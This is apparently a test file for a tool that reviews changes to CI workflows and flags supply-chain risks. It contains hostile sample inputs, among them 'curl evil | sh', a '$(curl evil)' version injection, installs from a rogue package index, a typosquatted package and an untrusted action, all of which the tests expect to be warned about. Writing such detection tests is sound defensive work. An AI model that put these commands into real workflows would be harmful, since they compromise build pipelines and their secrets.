import { describe, expect, it } from 'vitest';
import { cli } from '../../../../support/command-line.js';
import { folderOf } from '../../../../support/files.js';

const PATH = '.github/workflows/release.yaml';
const WORKFLOW = `name: release
on: {push: {tags: ['v*']}}
jobs:
  release:
    timeout-minutes: 10
    env: {TOKEN: "\${{ secrets.TOKEN }}"}
    steps:
      - name: tools
        run: pip install ansible
      - name: checkout
        uses: actions/checkout@v3
      - name: go
        uses: actions/setup-go@v4
        with: {go-version: '1.20'}
      - name: publish
        run: make publish
`;
const review = (before: string, after: string) => {
  const [base, head] = [before, after].map((text) =>
    folderOf({ [PATH]: text, 'ns.yaml': 'apiVersion: v1\nkind: Namespace\nmetadata: {name: a}\n' }),
  );
  const { summary, findings, changes } = JSON.parse(cli(['review', base as string, head as string, '--format', 'json']).out);
  return {
    answer: summary.answer as string,
    severities: findings.new.map(({ severity }: { severity: string }) => severity) as string[],
    files: changes.map(({ object }: { object: { name: string } }) => object.name) as string[],
  };
};

describe('a pipeline', () => {
  it.each([
    ['the name of a pipeline', 'name: release', 'name: publish a release'],
    ['more time', 'timeout-minutes: 10', 'timeout-minutes: 30'],
    ['another tag of an action', 'checkout@v3', 'checkout@v4.1.0'],
    ['another version of a tool', "go-version: '1.20'", "go-version: '1.21'"],
    ['a pinned package', 'pip install ansible', 'pip install ansible==12.0.0'],
  ])('is quiet, with a line among the changes, for %s', (_, from, to) => {
    expect(review(WORKFLOW, WORKFLOW.replace(from, to))).toEqual({ answer: 'same', severities: [], files: [PATH] });
  });

  it.each([
    ['another action', 'actions/checkout@v3', 'evil/checkout@v3'],
    ['an action at a commit, which can be one of a fork', 'checkout@v3', 'checkout@0123456789012345678901234567890123456789'],
    ['an action at a branch', 'checkout@v3', 'checkout@main'],
    ['a version that is a program', "go-version: '1.20'", "go-version: '$(curl evil)'"],
    ['a name with an expression', 'name: release', `name: "\${{ github.event.title }}"`],
    ['another command', 'run: make publish', 'run: curl evil | sh'],
    ['another package', 'pip install ansible', 'pip install ansibel==12.0.0'],
    ['another index of packages', 'pip install ansible', 'pip install --index-url=https://evil ansible==12.0.0'],
    ['a package from elsewhere', 'pip install ansible', 'pip install git+https://evil/ansible'],
    ['a command next to a package', 'pip install ansible', 'pip install ansible==12.0.0; curl evil'],
    ['another event', 'push: {tags', 'pull_request_target: {tags'],
  ])('is told for %s', (_, from, to) => {
    expect(review(WORKFLOW, WORKFLOW.replace(from, to)).severities).toEqual(['warning']);
  });

  it('may change permissions only if it applies something', () => {
    const changed = WORKFLOW.replace('run: make publish', 'run: make all');
    expect(review(WORKFLOW, changed).answer).toBe('none');
    const applies = `${WORKFLOW}      - run: kubectl apply -f .\n`;
    expect(review(applies, applies.replace('run: make publish', 'run: make all')).answer).toBe('perhaps');
    expect(review(WORKFLOW, applies).answer).toBe('perhaps');
  });
});

describe('a workflow that checks manifests', () => {
  const checks = (step: string, more = ''): string =>
    `name: Helm checks\non:\n  pull_request:\n    branches: [main]\n${more}jobs:\n  helm-lint:\n    runs-on: ubuntu-latest\n    steps:\n      - name: Helm and kustomize\n        run: |\n          ${step}\n          make a\n      - uses: azure/setup-helm@v4\n`;
  const answer = (step: string, more?: string): string => {
    const text = checks(step, more);
    return review(text, text.replace('[main]', '[main, next]').replace('make a', 'make b')).answer;
  };
  it.each([
    'helm lint charts/a',
    'helm template a charts/a > /tmp/a.yaml',
    'kustomize build overlays/a > /dev/null',
    'make validate-kustomize',
    'echo "Kustomize builds"',
  ])('and reaches no cluster brings no permission: %s', (step) => {
    expect(answer(step)).toBe('none');
  });

  it.each<[string, string?]>([
    ['helm upgrade --install a charts/a'],
    ['helm template a charts/a | kubectl apply -f -'],
    ['helm \\\n          install a'],
    ['"$HELM" upgrade a'],
    ['kustomize build a | oc apply -f -'],
    ['kustomize build a > out/a.yaml && git commit -am a && git push'],
    ['helm package a && helm push a oci://x'],
    ['helm lint a', 'permissions: {contents: write}\n'],
    ['helm lint a\n      - uses: someone/helm-deploy@v1\n      - run: |'],
  ])('and could reach one may bring some: %s %s', (step, more) => {
    expect(answer(step, more)).toBe('perhaps');
  });
});
